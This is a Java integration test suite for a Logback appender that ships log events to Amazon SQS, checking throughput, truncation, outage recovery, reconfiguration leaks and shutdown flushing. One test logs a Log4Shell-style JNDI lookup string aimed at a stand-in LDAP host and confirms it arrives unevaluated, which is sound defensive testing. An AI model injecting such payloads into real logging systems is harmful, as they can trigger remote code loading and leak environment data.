package io.github.sqsappender.logback;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.core.joran.spi.JoranException;
import ch.qos.logback.core.status.Status;
import io.github.sqsappender.core.internal.Utf8;
import io.github.sqsappender.core.testing.EmbeddedSqs;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.Timeout;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;
import software.amazon.awssdk.services.sqs.model.Message;

import javax.management.ObjectName;
import java.io.File;
import java.lang.management.ManagementFactory;
import java.nio.file.Paths;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/** The Logback appender configured from real logback.xml files, against ElasticMQ on loopback. */
@Timeout(180)
class LogbackSqsAppenderIT {

    static EmbeddedSqs sqs;
    String queueUrl;

    @BeforeAll
    static void startServer() {
        sqs = EmbeddedSqs.start();
    }

    @AfterAll
    static void stopServer() {
        sqs.close();
    }

    @BeforeEach
    void newQueue(TestInfo info) {
        String method = info.getTestMethod().orElseThrow().getName();
        queueUrl = sqs.createQueue("lb-" + method.substring(0, Math.min(60, method.length())));
        System.setProperty("sqs.queueUrl", queueUrl);
    }

    @AfterEach
    void quiet() {
        System.clearProperty("sqs.maxMessageBytes");
        System.clearProperty("sqs.lingerMs");
        System.clearProperty("sqs.rootLevel");
        configure("logback-test.xml");
    }

    /** Resets the default context (the one SLF4J and so the AWS SDK log to) and loads {@code resource}. */
    static LoggerContext configure(String resource) {
        LoggerContext ctx = (LoggerContext) LoggerFactory.getILoggerFactory();
        ctx.reset(); // stops the previous appenders: SqsAppender delivers what it holds
        ctx.getStatusManager().clear();
        JoranConfigurator configurator = new JoranConfigurator();
        configurator.setContext(ctx);
        try {
            configurator.doConfigure(LogbackSqsAppenderIT.class.getClassLoader().getResource(resource));
        } catch (JoranException e) {
            throw new IllegalStateException(e);
        }
        return ctx;
    }

    static SqsAppender sqsAppender(LoggerContext ctx) {
        return (SqsAppender) ctx.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME).getAppender("SQS");
    }

    @Test
    void fortyThousandEventsFromEightThreadsArriveExactlyOnce() throws Exception {
        LoggerContext ctx = configure("logback-sqs.xml");
        Logger logger = LoggerFactory.getLogger("com.example.Load");
        int threads = 8;
        int perThread = 5_000;
        CountDownLatch go = new CountDownLatch(1);
        List<Thread> workers = new ArrayList<>();
        for (int t = 0; t < threads; t++) {
            int id = t;
            Thread worker = new Thread(() -> {
                try {
                    go.await();
                } catch (InterruptedException e) {
                    return;
                }
                for (int i = 0; i < perThread; i++) {
                    logger.info("t{}-{}", id, i);
                }
            }, "load-" + t);
            workers.add(worker);
            worker.start();
        }
        long start = System.nanoTime();
        go.countDown();
        for (Thread w : workers) {
            w.join();
        }
        long loggedNanos = System.nanoTime() - start;
        SqsAppender appender = sqsAppender(ctx);
        assertThat(appender.flush(60_000)).isTrue();
        long deliveredNanos = System.nanoTime() - start;
        long requests = appender.getMetrics().getBatchRequests();
        configure("logback-test.xml");

        List<String> bodies = sqs.drainBodies(queueUrl, threads * perThread, Duration.ofSeconds(10));
        Set<String> expected = new HashSet<>();
        for (int t = 0; t < threads; t++) {
            for (int i = 0; i < perThread; i++) {
                expected.add("t" + t + "-" + i);
            }
        }
        assertThat(bodies).hasSize(threads * perThread);
        assertThat(new HashSet<>(bodies)).isEqualTo(expected);
        assertThat(requests).isLessThanOrEqualTo(threads * perThread / 5);
        System.out.printf("[measure] logback: %d events logged in %d ms (%.0f events/s on the caller side), "
                        + "all acknowledged after %d ms (%.0f events/s end to end) in %d SendMessageBatch requests%n",
                threads * perThread, loggedNanos / 1_000_000, threads * perThread / (loggedNanos / 1e9),
                deliveredNanos / 1_000_000, threads * perThread / (deliveredNanos / 1e9), requests);
    }

    @Test
    void hostileCharactersAreDeliveredSanitized() {
        configure("logback-sqs.xml");
        Logger logger = LoggerFactory.getLogger("com.example.Hostile");
        logger.info("nul\u0000byte");
        logger.info("\u001b[31mred\u001b[0m");
        logger.info("lone \uD800 surrogate");
        logger.info("not a char \uFFFF here");
        logger.info("${jndi:ldap://example.invalid/a} ${env:HOME}");
        logger.info("emoji 😀 ok");
        configure("logback-test.xml");
        assertThat(sqs.drainBodies(queueUrl, 6, Duration.ofSeconds(5))).containsExactlyInAnyOrder(
                "nul\uFFFDbyte", "\uFFFD[31mred\uFFFD[0m", "lone \uFFFD surrogate", "not a char \uFFFD here",
                "${jndi:ldap://example.invalid/a} ${env:HOME}", "emoji 😀 ok");
    }

    @Test
    void twoMebibyteEventIsTruncatedToTheQueuesLimit() {
        LoggerContext ctx = configure("logback-sqs.xml");
        LoggerFactory.getLogger("com.example.Big").info("é".repeat(1024 * 1024));
        assertThat(sqsAppender(ctx).flush(30_000)).isTrue();
        assertThat(sqsAppender(ctx).getMetrics().getEventsTruncated()).isEqualTo(1);
        configure("logback-test.xml");
        List<Message> received = sqs.drain(queueUrl, 1, Duration.ofSeconds(5));
        assertThat(received).hasSize(1);
        assertThat(Utf8.encodedLength(received.get(0).body()) + attributeBytes(received.get(0))).isLessThanOrEqualTo(262_144);
        assertThat(received.get(0).body()).startsWith("éééé").containsPattern("\\.\\.\\.\\[truncated \\d+ bytes]$");
    }

    @Test
    void configuredMaxMessageBytesIsRespected() {
        System.setProperty("sqs.maxMessageBytes", "1024");
        configure("logback-sqs.xml");
        MDC.put("requestId", "req-1");
        try {
            LoggerFactory.getLogger("com.example.Limit").warn("x".repeat(5_000));
        } finally {
            MDC.remove("requestId");
        }
        configure("logback-test.xml");
        List<Message> received = sqs.drain(queueUrl, 1, Duration.ofSeconds(5));
        assertThat(received).hasSize(1);
        Message m = received.get(0);
        assertThat(m.messageAttributes().get("level").stringValue()).isEqualTo("WARN");
        assertThat(m.messageAttributes().get("mdc.requestId").stringValue()).isEqualTo("req-1");
        assertThat(Utf8.encodedLength(m.body()) + attributeBytes(m)).isLessThanOrEqualTo(1024);
    }

    @Test
    void loggingDoesNotWaitWhileNothingListensAndEverythingArrivesOnceTheServerStarts() throws Exception {
        int port = EmbeddedSqs.freePort();
        String lateUrl = "http://127.0.0.1:" + port + "/000000000000/late";
        System.setProperty("sqs.queueUrl", lateUrl);
        LoggerContext ctx = configure("logback-sqs.xml");
        Logger logger = LoggerFactory.getLogger("com.example.Outage");
        long start = System.nanoTime();
        for (int i = 0; i < 1_000; i++) {
            logger.info("during-outage-{}", i);
        }
        assertThat((System.nanoTime() - start) / 1_000_000).as("1000 logging calls during an outage").isLessThan(2_000);
        SqsAppender appender = sqsAppender(ctx);
        while (appender.getMetrics().getLastError().isEmpty()) {
            Thread.onSpinWait();
        }
        try (EmbeddedSqs late = EmbeddedSqs.startOn(port)) {
            late.createQueue("late");
            assertThat(appender.flush(60_000)).isTrue();
            configure("logback-test.xml");
            assertThat(late.drainBodies(lateUrl, 1_000, Duration.ofSeconds(5))).hasSize(1_000).doesNotHaveDuplicates();
        }
    }

    @Test
    void allLoggersAtDebugIncludingTheSdkDoNotDeadlockOrFlood() {
        System.setProperty("sqs.rootLevel", "DEBUG");
        LoggerContext ctx = configure("logback-sqs.xml");
        Logger logger = LoggerFactory.getLogger("com.example.Debug");
        Logger sdkStyle = LoggerFactory.getLogger("software.amazon.awssdk.request");
        for (int i = 0; i < 500; i++) {
            logger.debug("debug-{}", i);
            sdkStyle.debug("sdk internal {}", i);
        }
        SqsAppender appender = sqsAppender(ctx);
        assertThat(appender.flush(60_000)).isTrue();
        long appended = appender.getMetrics().getEventsAppended();
        configure("logback-test.xml");
        assertThat(appended).isEqualTo(500);
        assertThat(sqs.drainBodies(queueUrl, 501, Duration.ofSeconds(3))).hasSize(500).allMatch(b -> b.startsWith("debug-"));
    }

    @Test
    void anEncoderThatLogsDoesNotRecurse() {
        LoggerContext ctx = configure("logback-reentrant.xml");
        LoggerFactory.getLogger("com.example.App").info("hello");
        assertThat(sqsAppender(ctx).flush(30_000)).isTrue();
        configure("logback-test.xml");
        assertThat(sqs.drainBodies(queueUrl, 2, Duration.ofSeconds(3))).containsExactly("encoded:hello");
    }

    @Test
    void invalidConfigurationIsReportedNamingTheAttributeAndTheApplicationKeepsLogging() {
        LoggerContext ctx = configure("logback-invalid.xml");
        List<String> errors = ctx.getStatusManager().getCopyOfStatusList().stream()
                .filter(s -> s.getLevel() == Status.ERROR).map(Status::getMessage).toList();
        assertThat(errors).anySatisfy(e -> assertThat(e).contains("maxBatchSize=11"));
        assertThat(errors).anySatisfy(e -> assertThat(e).contains("overflowPolicy=wait"));
        assertThat(errors).anySatisfy(e -> assertThat(e).contains("endpoint=not a url"));
        assertThat(sqsAppender(ctx).isStarted()).isFalse();
        LoggerFactory.getLogger("com.example.App").info("still fine"); // must not throw
        assertThat(appenderThreads()).isEmpty();
    }

    @Test
    void hundredResetsAndReconfigurationsWhileFourThreadsLogLoseNothingAndLeakNoThreadsOrMBeans() throws Exception {
        int threads = 4;
        java.util.concurrent.atomic.AtomicBoolean running = new java.util.concurrent.atomic.AtomicBoolean(true);
        CountDownLatch go = new CountDownLatch(1);
        List<Thread> workers = new ArrayList<>();
        java.util.concurrent.atomic.AtomicLong logged = new java.util.concurrent.atomic.AtomicLong();
        for (int t = 0; t < threads; t++) {
            int id = t;
            Thread worker = new Thread(() -> {
                try {
                    go.await();
                } catch (InterruptedException e) {
                    return;
                }
                Logger logger = LoggerFactory.getLogger("com.example.Reconfig");
                for (int i = 0; running.get(); i++) {
                    logger.info("w{}-{}", id, i);
                    logged.incrementAndGet();
                    Thread.yield();
                }
            });
            workers.add(worker);
            worker.start();
        }
        // Events logged while no appender is attached (inside a reset) are Logback's to skip; every
        // event that reached an SqsAppender must be delivered.
        List<io.github.sqsappender.core.SqsAppenderMetrics> all = new ArrayList<>();
        go.countDown();
        for (int r = 0; r < 100; r++) {
            LoggerContext ctx = configure("logback-sqs.xml");
            io.github.sqsappender.core.SqsAppenderMetrics metrics = sqsAppender(ctx).getMetrics();
            all.add(metrics);
            while (metrics.getEventsAppended() < 50) {
                Thread.onSpinWait(); // let this appender take real traffic before the next reset
            }
        }
        running.set(false);
        for (Thread w : workers) {
            w.join();
        }
        configure("logback-test.xml");
        assertThat(appenderThreads()).isEmpty();
        assertThat(ManagementFactory.getPlatformMBeanServer()
                .queryNames(new ObjectName("io.github.sqsappender:type=SqsAppender,*"), null)).isEmpty();
        long appended = all.stream().mapToLong(io.github.sqsappender.core.SqsAppenderMetrics::getEventsAppended).sum();
        long sent = all.stream().mapToLong(io.github.sqsappender.core.SqsAppenderMetrics::getEventsSent).sum();
        long dropped = all.stream().mapToLong(io.github.sqsappender.core.SqsAppenderMetrics::getEventsDropped).sum();
        assertThat(dropped).isZero();
        assertThat(sent).isEqualTo(appended).isPositive();
        assertThat(sqs.drainBodies(queueUrl, (int) sent, Duration.ofSeconds(5))).hasSize((int) sent).doesNotHaveDuplicates();
        System.out.printf("[measure] logback: 100 reset+configure cycles while 4 threads logged: %,d events reached "
                + "the 100 successive appenders, %,d delivered, 0 dropped, no thread or MBean left%n", appended, sent);
    }

    @Test
    void flushesAtJvmExitWithoutALogbackShutdownHook() throws Exception {
        String java = Paths.get(System.getProperty("java.home"), "bin", "java").toString();
        Process child = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"),
                "-Daws.accessKeyId=test", "-Daws.secretAccessKey=test", "-Daws.region=us-east-1",
                "-Daws.disableEc2Metadata=true", "-Dsqs.queueUrl=" + queueUrl,
                ExitWithoutStopMain.class.getName(), "300")
                .redirectErrorStream(true).redirectOutput(new File("target/exit-child.log")).start();
        assertThat(child.waitFor(90, TimeUnit.SECONDS)).isTrue();
        assertThat(child.exitValue()).isZero();
        assertThat(sqs.drainBodies(queueUrl, 300, Duration.ofSeconds(5))).hasSize(300);
    }

    static List<Thread> appenderThreads() {
        return Thread.getAllStackTraces().keySet().stream()
                .filter(t -> t.isAlive() && t.getName().startsWith("sqs-appender-")).toList();
    }

    static int attributeBytes(Message m) {
        return m.messageAttributes().entrySet().stream()
                .mapToInt(e -> Utf8.encodedLength(e.getKey()) + Utf8.encodedLength(e.getValue().dataType())
                        + Utf8.encodedLength(e.getValue().stringValue())).sum();
    }
}
